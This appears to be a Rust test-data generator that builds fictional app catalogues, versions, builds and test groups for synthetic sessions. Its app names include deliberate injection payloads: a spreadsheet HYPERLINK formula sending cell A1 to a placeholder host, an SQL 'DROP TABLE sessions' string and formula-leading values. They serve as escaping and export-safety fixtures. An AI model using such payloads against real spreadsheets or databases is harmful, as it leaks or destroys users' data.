//! What sessions run: apps with their versions, builds and groups.

use domain::App;

use super::cast::House;
use super::draw::{Draw, Weighted};

/// Id, name, how much it is run, and its major versions from the oldest to the newest. An empty id or name is
/// missing: the recorder knew only the other.
type Entry = (&'static str, &'static str, u64, &'static [&'static str]);

/// In this many sessions the one rare app was run.
const RARE_SESSIONS: u64 = 5;
/// The rare app: a search for `lighthouse` finds five sessions, however many there are.
const RARE: (&str, &str, &str) = ("com.harbor.lighthouse", "Lighthouse Pilot", "0.1.0");

const HARBOR: [Entry; 26] = [
    (
        "com.harbor.pay",
        "Harbor Pay",
        380,
        &["4.9", "4.10", "4.11", "4.12"],
    ),
    ("com.harbor.souq", "سوق هاربر", 140, &["1.5", "1.6", "1.7", "1.8"]),
    (
        "com.harbor.courier",
        "Courier",
        103,
        &["2.6", "2.7", "2.8", "2.9"],
    ),
    ("com.harbor.loyalty", "Loyalty Card", 92, &["2.8", "3.0"]),
    ("com.harbor.warehouse", "Warehouse Scan", 60, &["11", "12"]),
    ("com.harbor.pay.dev", "Harbor Pay (dev)", 40, &["4.13"]),
    ("com.harbor.kiosk", "Harbor Kiosk", 26, &["7", "8"]),
    ("com.harbor.berth", "Berth Planner", 22, &["1.0", "1.1"]),
    ("com.harbor.tides", "Tide Tables", 18, &["5.2", "5.3"]),
    ("jp.harbor.pay", "港湾ペイ", 16, &["1.2", "1.3"]),
    ("ru.harbor.market", "Порт Маркет", 12, &["3.1", "3.2"]),
    ("com.harbor.fleet", "🚚 Fleet Tracker 🗺️", 12, &["0.9", "1.0"]),
    ("il.harbor.gate", "שער הנמל", 9, &["2.0"]),
    ("ch.harbor.cafe", "Café Zürich, Öffnungszeiten", 9, &["1.4"]),
    (
        "com.quay.partners",
        "Quay & Co. \"Partners\", Ltd.",
        8,
        &["6.0", "6.1"],
    ),
    ("com.harbor.cashback", "100% Cashback", 8, &["1.1"]),
    (
        "com.harbor.enterprise.internal.distribution.operations.dashboard",
        "Harbor Enterprise Operations Dashboard for Regional Distribution Managers and Their Deputies (internal preview)",
        6,
        &["2025.11", "2026.4"],
    ),
    (
        "com.example.gift",
        "=HYPERLINK(\"https://gift.example/?q=\"&A1,\"Free gift\")",
        5,
        &["1"],
    ),
    ("com.harbor.plusone", "+1 Rewards", 4, &["2.2"]),
    ("com.harbor.athome", "@home Control", 4, &["3.3"]),
    ("com.harbor.minus", "-2+3 Calculator", 3, &["1.0"]),
    ("com.harbor.sheet", "\u{200b}=SUM(A1:A9)", 3, &["1.0"]),
    ("com.harbor.notes", "<b>Bold</b> Notes & 'quotes'", 4, &["9.9"]),
    ("com.harbor.probe", "", 5, &["0.0"]),
    ("", "Sideloaded APK", 5, &[""]),
    (
        "com.oreilly.dock",
        "O'Reilly's Dock; DROP TABLE sessions;--",
        3,
        &["1.0"],
    ),
];

const FJORD: [Entry; 6] = [
    ("no.fjord.booking", "Fjord Booking", 50, &["2.3", "2.4"]),
    ("no.fjord.journal", "Journal på nett", 30, &["1.8", "1.9"]),
    ("no.fjord.ward", "Ward Round", 14, &["5", "6"]),
    ("no.fjord.bloodpressure", "Blodtrykk ❤️", 8, &["1.0"]),
    ("no.fjord.kiosk", "Check-in Kiosk", 6, &["3.0"]),
    ("no.fjord.dev", "Fjord Booking (dev)", 4, &["2.5"]),
];

const GROUPS: [&str; 6] = [
    "Checkout suite",
    "Release train 2026",
    "Smoke, all platforms",
    "Übergabe & Übernahme",
    "=Checkout",
    "Accessibility 50%",
];

/// Patch releases of a major version that are told apart.
const PATCHES: usize = 3;

/// The apps of a house.
pub struct Catalogue {
    entries: &'static [Entry],
    weights: Weighted,
}

impl Catalogue {
    /// The apps of `house`.
    pub fn of(house: House) -> Self {
        let entries: &[Entry] = match house {
            House::Harbor => &HARBOR,
            House::Fjord => &FJORD,
        };
        Self {
            entries,
            weights: Weighted::new(entries.iter().map(|entry| entry.2)),
        }
    }

    /// One of them as it was when `age` per mille of the plan's time had gone by; a bare device now and then.
    pub fn pick(&self, draw: &mut Draw, age: usize, machine: bool) -> App {
        if draw.chance(31) {
            return App::default();
        }
        let (id, name, _, majors) = self.entries[self.weights.pick(draw)];
        let releases = majors.len() * PATCHES;
        // People run the newest release of their day, or one of the two before it.
        let newest = (releases * age / 1000).min(releases - 1);
        let release = newest.saturating_sub(draw.below(3).saturating_sub(1));
        let (major, patch) = (majors[release / PATCHES], release % PATCHES);
        let candidate = machine && draw.chance(250);
        let version = match (major, candidate) {
            ("", _) => None,
            (major, true) => Some(format!("{major}.{patch}-rc.{}", 1 + draw.below(2))),
            (major, false) => Some(format!("{major}.{patch}")),
        };
        let built = if machine {
            draw.chance(600)
        } else {
            draw.chance(80)
        };
        // Builds are numbered through: one release has four of them.
        let build_id = built.then(|| (8_000 + major.len() * 400 + release * 8 + draw.below(4)).to_string());
        let group = draw
            .chance(if machine { 220 } else { 60 })
            .then(|| (*draw.pick(&GROUPS)).to_owned());
        App {
            id: (!id.is_empty()).then(|| id.to_owned()),
            name: (!name.is_empty()).then(|| name.to_owned()),
            version,
            build_id,
            group,
        }
    }

    /// The app that five sessions ran.
    pub fn rare() -> App {
        let (id, name, version) = RARE;
        App {
            id: Some(id.to_owned()),
            name: Some(name.to_owned()),
            version: Some(version.to_owned()),
            build_id: None,
            group: None,
        }
    }
}

/// True for the five of `sessions` sessions that ran the rare app, evenly spread.
pub fn is_rare(at: u64, sessions: u64) -> bool {
    let gap = sessions / (RARE_SESSIONS + 1);
    gap > 10 && at > 0 && at.is_multiple_of(gap) && at / gap <= RARE_SESSIONS
}
